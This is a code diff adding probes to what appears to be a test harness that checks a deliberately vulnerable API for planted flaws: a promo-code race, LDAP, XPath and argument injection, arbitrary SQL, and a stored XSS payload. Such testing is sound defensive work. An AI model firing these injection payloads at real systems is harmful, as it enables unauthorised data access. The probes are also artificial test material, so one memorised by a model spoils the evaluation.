@@ -741,6 +741,43 @@ export const PROBES: Record<FlawId, Probe> = {
       return r(all.status === 200 && all.json.items.length > one.json.items.length, `${one.json?.items?.length} -> ${all.json?.items?.length}`);
     },
   },
+  'race-promo-code': {
+    async run(t) {
+      const key = t.users.bob.key;
+      const answers = await Promise.all(Array.from({ length: 6 }, () => call(t, 'POST', '/api/v2/promotions/redeem', { key, body: { code: 'SPRING10' } })));
+      const again = await call(t, 'POST', '/api/v2/promotions/redeem', { key, body: { code: 'SPRING10' } });
+      const ok = answers.filter((a) => a.status === 200).length;
+      return r(ok > 1 && again.status === 409, `${ok} of 6 redeemed; then ${brief(again)}`);
+    },
+  },
+  'ldap-injection': {
+    async run(t) {
+      const key = t.users.alice.key;
+      const one = await call(t, 'GET', '/api/v2/directory/people?uid=alice', { key });
+      const all = await call(t, 'GET', `/api/v2/directory/people?uid=${encodeURIComponent('*)(objectClass=*')}`, { key });
+      return r(all.status === 200 && all.json.items.length > one.json.items.length, `${one.json?.items?.length} -> ${brief(all)}`);
+    },
+  },
+  'xpath-injection': {
+    async run(t) {
+      const key = t.users.alice.key;
+      const one = await call(t, 'GET', '/api/v2/directory/extensions?login=alice', { key });
+      const all = await call(t, 'GET', `/api/v2/directory/extensions?login=${encodeURIComponent("x' or '1'='1")}`, { key });
+      return r(all.status === 200 && all.json.items.length > one.json.items.length, `${one.json?.items?.length} -> ${brief(all)}`);
+    },
+  },
+  'argument-injection': {
+    async run(t) {
+      const c = await call(t, 'GET', '/api/v2/downloads/preview?file=--help', { key: t.users.alice.key });
+      return r(/Usage: head/.test(c.text), brief(c));
+    },
+  },
+  'sql-statement': {
+    async run(t) {
+      const c = await call(t, 'POST', '/api/v2/reports/run', { key: t.users.alice.key, body: { sql: 'SELECT 7*191 AS n' } });
+      return r(c.status === 200 && c.json.rows?.[0]?.n === 1337, brief(c));
+    },
+  },
   'stored-html': {
     async run(t) {
       const id = await createNote(t, `<img src=x onerror=alert(${uniq()})>`);
